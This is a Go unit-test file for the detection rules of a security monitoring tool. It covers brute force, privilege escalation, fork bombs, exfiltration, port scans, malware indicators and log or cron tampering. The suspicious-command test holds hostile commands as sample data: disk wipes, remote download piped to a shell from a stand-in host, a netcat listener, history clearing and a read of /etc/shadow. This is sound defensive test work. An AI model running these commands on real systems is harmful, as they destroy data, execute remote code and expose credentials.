package rules

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/argus-siem/argus/internal/store"
)

func window(t *testing.T) *DeviceWindow {
	t.Helper()
	return &DeviceWindow{
		Device:     store.Device{ID: "11111111-2222-3333-4444-555555555555", Hostname: "web01"},
		Now:        time.Now().UTC(),
		Thresholds: DefaultThresholds(),
	}
}

func TestHighMemoryBoundary(t *testing.T) {
	w := window(t)
	w.Metrics = []store.MetricSample{
		{Memory: store.MemoryStats{Percent: 90.0}},
		{Memory: store.MemoryStats{Percent: 90.0}},
	}
	// Exactly at the threshold does not fire.
	assert.Empty(t, ruleHighMemory(w))

	w.Metrics = append(w.Metrics, store.MetricSample{Memory: store.MemoryStats{Percent: 96.0}})
	got := ruleHighMemory(w)
	require.Len(t, got, 1)
	assert.Equal(t, "high_memory", got[0].Rule)
	assert.InDelta(t, 92.0, got[0].Details["avg_memory_percent"], 0.001)
}

func TestHighCPUUsesSnapshotMax(t *testing.T) {
	w := window(t)
	w.Processes = &store.ProcessWindowStats{MaxCPUPercent: 200}
	assert.Empty(t, ruleHighCPU(w))

	w.Processes.MaxCPUPercent = 200.5
	got := ruleHighCPU(w)
	require.Len(t, got, 1)
	assert.Equal(t, store.SeverityMedium, got[0].Severity)
}

func TestBruteForcePerPrincipal(t *testing.T) {
	w := window(t)
	for i := 0; i < 2; i++ {
		w.Logs = append(w.Logs, store.LogRecord{
			Process: "sshd", Message: "Failed password for root from 10.0.0.5 port 22 ssh2",
		})
	}
	w.Logs = append(w.Logs, store.LogRecord{
		Process: "sshd", Message: "Failed password for invalid user oracle from 10.0.0.9",
	})
	// Two failures for root, one for oracle: neither principal reaches three.
	assert.Empty(t, ruleBruteForce(w))

	w.Logs = append(w.Logs, store.LogRecord{
		Process: "sshd", Message: "Failed password for root from 10.0.0.6 port 22 ssh2",
	})
	got := ruleBruteForce(w)
	require.Len(t, got, 1)
	assert.Equal(t, "root", got[0].Details["user"])
	assert.Equal(t, 3, got[0].Details["attempts"])
}

func TestBruteForceIgnoresOtherProcesses(t *testing.T) {
	w := window(t)
	for i := 0; i < 5; i++ {
		w.Logs = append(w.Logs, store.LogRecord{
			Process: "nginx", Message: "Failed password for root",
		})
	}
	assert.Empty(t, ruleBruteForce(w))
}

func TestPrivilegeEscalationAllowlist(t *testing.T) {
	w := window(t)
	w.Commands = []store.CommandRecord{
		{Username: "root", Command: "sudo systemctl restart nginx"},
		{Username: "deploy", Command: "sudo apt-get update"},
		{Username: "mallory", Command: "sudo cat /etc/shadow"},
	}
	got := rulePrivilegeEscalation(w)
	require.Len(t, got, 1)
	assert.Equal(t, "mallory", got[0].Details["user"])
}

func TestSuspiciousCommandPatterns(t *testing.T) {
	cases := map[string]bool{
		"rm -rf /":                      true,
		"rm -rf /tmp/build":             false,
		"curl http://evil.sh/x | bash":  true,
		"wget http://evil.sh/x | sh":    true,
		"dd if=/dev/zero of=/dev/sda":   true,
		"nc -l 4444":                    true,
		"history -c":                    true,
		"ls -la /var/log":               false,
		"echo hello":                    false,
	}
	for cmd, want := range cases {
		w := window(t)
		w.Commands = []store.CommandRecord{{Username: "bob", Command: cmd}}
		got := ruleSuspiciousCommand(w)
		if want {
			assert.Len(t, got, 1, "command %q should match", cmd)
		} else {
			assert.Empty(t, got, "command %q should not match", cmd)
		}
	}
}

func TestForkBombRequiresSustainedGrowth(t *testing.T) {
	w := window(t)
	base := time.Now().UTC().Truncate(time.Second)
	// 30s apart is below the sustain window regardless of rate.
	w.Processes = &store.ProcessWindowStats{SnapshotCounts: map[time.Time]int{
		base:                     100,
		base.Add(30 * time.Second): 400,
	}}
	assert.Empty(t, ruleForkBomb(w))

	// 120 per minute over two minutes fires.
	w.Processes.SnapshotCounts = map[time.Time]int{
		base:                  100,
		base.Add(2 * time.Minute): 340,
	}
	got := ruleForkBomb(w)
	require.Len(t, got, 1)
	assert.Equal(t, store.SeverityHigh, got[0].Severity)
}

func TestDataExfiltrationCounterReset(t *testing.T) {
	w := window(t)
	base := time.Now().UTC()
	w.Metrics = []store.MetricSample{
		{Timestamp: base, Network: store.NetworkStats{BytesSent: 10 << 30}},
		// Counter reset after a reboot: delta is negative and must be skipped.
		{Timestamp: base.Add(time.Minute), Network: store.NetworkStats{BytesSent: 1 << 20}},
	}
	assert.Empty(t, ruleDataExfiltration(w))

	w.Metrics = []store.MetricSample{
		{Timestamp: base, Network: store.NetworkStats{BytesSent: 0}},
		{Timestamp: base.Add(time.Minute), Network: store.NetworkStats{BytesSent: 600 << 20}},
	}
	got := ruleDataExfiltration(w)
	require.Len(t, got, 1)
	assert.Equal(t, "data_exfiltration", got[0].Rule)
}

func TestPortScanPicksWorstProcess(t *testing.T) {
	w := window(t)
	w.ProcessRecords = []store.ProcessRecord{
		{Name: "nginx", PID: 10, Connections: 49},
		{Name: "masscan", PID: 11, Connections: 900},
		{Name: "zmap", PID: 12, Connections: 120},
	}
	got := rulePortScan(w)
	require.Len(t, got, 1)
	assert.Equal(t, "masscan", got[0].Details["process"])
}

func TestMalwareIndicatorDedupPerIndicator(t *testing.T) {
	w := window(t)
	w.ProcessRecords = []store.ProcessRecord{
		{Name: "xmrig", PID: 1},
		{Name: "xmrig", PID: 2},
		{Name: "bash", Exe: "/tmp/.hidden/loader", PID: 3},
	}
	got := ruleMalwareIndicator(w)
	require.Len(t, got, 2)
	for _, c := range got {
		assert.Equal(t, store.SeverityCritical, c.Severity)
	}
}

func TestLogDeletionAndCronTamper(t *testing.T) {
	w := window(t)
	w.Commands = []store.CommandRecord{
		{Username: "bob", Command: "rm -f /var/log/auth.log"},
		{Username: "bob", Command: "crontab -l"},
		{Username: "eve", Command: "echo '* * * * * /tmp/x' > /etc/cron.d/job"},
	}
	del := ruleLogDeletion(w)
	require.Len(t, del, 1)
	assert.Equal(t, "bob", del[0].Details["user"])

	cron := ruleCronTamper(w)
	require.Len(t, cron, 1)
	assert.Equal(t, "eve", cron[0].Details["user"])
}

func TestServiceDisruptionProtectedOnly(t *testing.T) {
	w := window(t)
	w.Commands = []store.CommandRecord{
		{Username: "bob", Command: "systemctl stop nginx"},
		{Username: "bob", Command: "systemctl stop auditd.service"},
		{Username: "bob", Command: "service sshd stop"},
		{Username: "bob", Command: "systemctl disable rsyslog"},
	}
	got := ruleServiceDisruption(w)
	require.Len(t, got, 3)
	services := []string{}
	for _, c := range got {
		services = append(services, c.Details["service"].(string))
	}
	assert.ElementsMatch(t, []string{"auditd", "sshd", "rsyslog"}, services)
}

func TestFingerprintStableAcrossDetails(t *testing.T) {
	a := Fingerprint("brute_force", "dev-1", []string{"brute_force", "root"})
	b := Fingerprint("brute_force", "dev-1", []string{"brute_force", "root"})
	c := Fingerprint("brute_force", "dev-1", []string{"brute_force", "oracle"})
	d := Fingerprint("brute_force", "dev-2", []string{"brute_force", "root"})
	assert.Equal(t, a, b)
	assert.NotEqual(t, a, c)
	assert.NotEqual(t, a, d)
}

func TestCorrelationKeyBuckets(t *testing.T) {
	base := time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)
	k1 := CorrelationKey("dev-1", base.Add(10*time.Second))
	k2 := CorrelationKey("dev-1", base.Add(4*time.Minute))
	k3 := CorrelationKey("dev-1", base.Add(6*time.Minute))
	k4 := CorrelationKey("dev-2", base.Add(10*time.Second))
	assert.Equal(t, k1, k2)
	assert.NotEqual(t, k1, k3)
	assert.NotEqual(t, k1, k4)
}
